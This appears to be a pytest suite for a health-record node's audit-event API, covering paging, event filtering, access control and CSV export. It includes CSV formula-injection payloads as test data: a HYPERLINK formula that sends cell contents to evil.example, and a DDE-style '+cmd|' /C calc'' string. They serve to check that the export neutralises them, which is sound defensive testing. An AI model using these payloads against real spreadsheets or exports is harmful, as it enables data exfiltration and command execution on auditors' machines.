"""GET /audit/events pages and filters by event (X-Total-Count), and GET /audit/events/csv
exports the same events, with cells a spreadsheet would run as formulas neutralised
(issue 13)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest
from eth_account import Account
from eth_account.signers.local import LocalAccount

from node.audit import csv_export
from node.audit.csv_export import CSV_COLUMNS, audit_csv, csv_row, safe_cell
from node.client import Scope
from tests.node.conftest import RunningNode, start_node

# A break-glass reason an attacker with a hospital token could write, to run in the
# auditor's spreadsheet when the trail is exported.
EVIL_REASON = '=HYPERLINK("http://evil.example/?"&A1,"cardiac arrest")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@dataclass
class Trail:
    rn: RunningNode
    patient: LocalAccount
    other: LocalAccount
    auditor: str
    hospital: str
    patient_session: str
    other_session: str

    def get(self, token: str, path: str, **params: object) -> httpx.Response:
        return httpx.get(
            self.rn.url + path,
            params={k: v for k, v in params.items() if v is not None},
            headers={"Authorization": f"Bearer {token}"},
            timeout=60,
        )


@pytest.fixture(scope="module")
def trail(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Trail]:
    rn = start_node(Path(tmp_path_factory.mktemp("audit-export")) / "node")
    try:
        patient, other, doc, stranger = (Account.create() for _ in range(4))
        chief = Account.create().address
        with rn.client(rn.admin_token) as admin:
            hospital_token = admin.create_token("ehr", "hospital")
            auditor_token = admin.create_token("audit", "auditor")
        with rn.client(hospital_token) as hospital, rn.client() as public:
            hospital.add_clinician(doc.address, "physician")
            hospital.add_clinician(chief, "emergency")
            rid = hospital.upload(patient.address, b"k 4.1", category="lab")["record_id"]
            hospital.upload(other.address, b"na 140", category="lab")
            hospital.wait_anchored(rid, timeout=30)
            public.grant(patient, doc.address, Scope.record(rid))
            doc_s, stranger_s = public.login(doc), public.login(stranger)
            assert public.read(rid, doc_s).status_code == 200
            with pytest.raises(Exception):  # noqa: B017 - the refusal is what is logged
                public.read(rid, stranger_s)
            hospital.break_glass(
                patient.address, doc.address, EVIL_REASON, approved_by=chief, duration=600
            )
            sessions = public.login(patient), public.login(other)
        rn.node.access_flusher.flush_now()
        yield Trail(rn, patient, other, auditor_token, hospital_token, *sessions)
    finally:
        rn.stop()


def test_events_page_over_the_trail_with_a_total(trail: Trail) -> None:
    full = trail.get(trail.auditor, "/audit/events", patient=trail.patient.address)
    assert full.status_code == 200
    events = full.json()
    total = int(full.headers["X-Total-Count"])
    assert total == len(events) == 5  # anchor, grant, two reads, break-glass
    order = [(e["block_number"], e["log_index"]) for e in events]
    assert order == sorted(order)  # chain order, oldest first
    page = trail.get(
        trail.auditor, "/audit/events", patient=trail.patient.address, limit=2, offset=1
    )
    assert page.json() == events[1:3] and int(page.headers["X-Total-Count"]) == total
    past = trail.get(trail.auditor, "/audit/events", patient=trail.patient.address, offset=total)
    assert past.json() == [] and int(past.headers["X-Total-Count"]) == total


def test_events_filter_by_event_name(trail: Trail) -> None:
    r = trail.get(
        trail.auditor, "/audit/events", patient=trail.patient.address, event="AccessRecorded"
    )
    reads = r.json()
    assert {e["event"] for e in reads} == {"AccessRecorded"}
    assert sorted(e["args"]["granted"] for e in reads) == [False, True]
    assert int(r.headers["X-Total-Count"]) == 2
    r = trail.get(trail.auditor, "/audit/events", event="BreakGlassOpened")
    assert [e["reason"] for e in r.json()] == [EVIL_REASON]
    # zero-knowledge reads: none yet, and the name is known
    r = trail.get(trail.auditor, "/audit/events", event="ZkAccessGranted")
    assert r.status_code == 200 and r.json() == [] and r.headers["X-Total-Count"] == "0"


@pytest.mark.parametrize(
    "params",
    [
        {"event": "Transfer"},
        {"event": "accessrecorded"},
        {"limit": 0},
        {"limit": 1001},
        {"offset": -1},
        {"limit": "ten"},
    ],
)
def test_bad_paging_and_event_names_are_refused(trail: Trail, params: dict[str, object]) -> None:
    for path in ("/audit/events", "/audit/events/csv"):
        if path.endswith("csv") and ("limit" in params or "offset" in params):
            continue  # the export has no paging: extra parameters are ignored
        r = trail.get(trail.auditor, path, **params)
        assert r.status_code == 422, r.text
        assert r.json()["error"] == "validation_failed"
        assert next(iter(params)) in r.json()["detail"]


def _csv(r: httpx.Response) -> list[dict[str, str]]:
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"] == 'attachment; filename="audit-events.csv"'
    rows = list(csv.reader(io.StringIO(r.text, newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    return [dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]]


def test_csv_has_the_same_events_in_the_same_order(trail: Trail) -> None:
    for params in ({}, {"patient": trail.patient.address}, {"event": "AccessRecorded"}):
        events = trail.get(trail.auditor, "/audit/events", **params).json()
        rows = _csv(trail.get(trail.auditor, "/audit/events/csv", **params))
        assert [(r["tx_hash"], int(r["log_index"])) for r in rows] == [
            (e["tx_hash"], e["log_index"]) for e in events
        ]
        for row, e in zip(rows, events, strict=True):
            assert row["event"] == e["event"] and int(row["timestamp"]) == e["timestamp"]
            assert row["patient"] == e["args"].get("patient", "")
            assert json.loads(row["args_json"]) == e["args"]
    reads = _csv(trail.get(trail.auditor, "/audit/events/csv", event="AccessRecorded"))
    assert sorted(r["granted"] for r in reads) == ["false", "true"]
    assert all(r["time_utc"].endswith("Z") and r["actor"].startswith("0x") for r in reads)


def test_csv_injection_cells_are_neutralised(trail: Trail) -> None:
    r = trail.get(trail.auditor, "/audit/events/csv", event="BreakGlassOpened")
    (row,) = _csv(r)
    assert row["reason"] == "'" + EVIL_REASON
    for line in csv.reader(io.StringIO(r.text, newline="")):
        for cell in line:
            assert not cell.startswith(FORMULA_STARTS), cell
    # every dangerous first character, in every column a caller can influence
    hostile = {
        "event": "@SUM(1+1)",
        "contract": "+cmd|' /C calc'!A0",
        "block_number": 1,
        "timestamp": 0,
        "tx_hash": "-2+3",
        "log_index": 0,
        "args": {"patient": "\t=1", "recordId": "\r=1", "actor": "=1"},
        "reason": "=2+5",
    }
    cells = csv_row(hostile)
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    assert cells[CSV_COLUMNS.index("reason")] == "'=2+5"
    assert cells[CSV_COLUMNS.index("patient")] == "'\t=1"
    assert cells[CSV_COLUMNS.index("contract")] == "'+cmd|' /C calc'!A0"
    assert safe_cell("0x12") == "0x12" and safe_cell("") == ""
    assert audit_csv([]).splitlines() == [",".join(CSV_COLUMNS)]


def test_a_wallet_exports_only_its_own_trail(trail: Trail) -> None:
    mine = _csv(trail.get(trail.patient_session, "/audit/events/csv"))
    assert mine and {r["patient"] for r in mine} == {trail.patient.address}
    for path in ("/audit/events", "/audit/events/csv", "/audit/stats"):
        r = trail.get(trail.other_session, path, patient=trail.patient.address)
        assert r.status_code == 403, (path, r.text)
        assert r.json()["error"] == "forbidden"
        r = trail.get(trail.hospital, path)
        assert r.status_code == 403, (path, r.text)
    theirs = _csv(trail.get(trail.other_session, "/audit/events/csv"))
    assert {r["patient"] for r in theirs} == {trail.other.address}
    r = trail.get("emrs_" + "x" * 43, "/audit/events/csv")
    assert r.status_code == 401


def test_an_export_past_the_row_limit_asks_to_narrow(
    trail: Trail, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(csv_export, "MAX_CSV_ROWS", 2)
    r = trail.get(trail.auditor, "/audit/events/csv")
    assert r.status_code == 422
    assert r.json()["error"] == "validation_failed" and "narrow" in r.json()["detail"]
    assert _csv(trail.get(trail.auditor, "/audit/events/csv", event="AccessRecorded"))
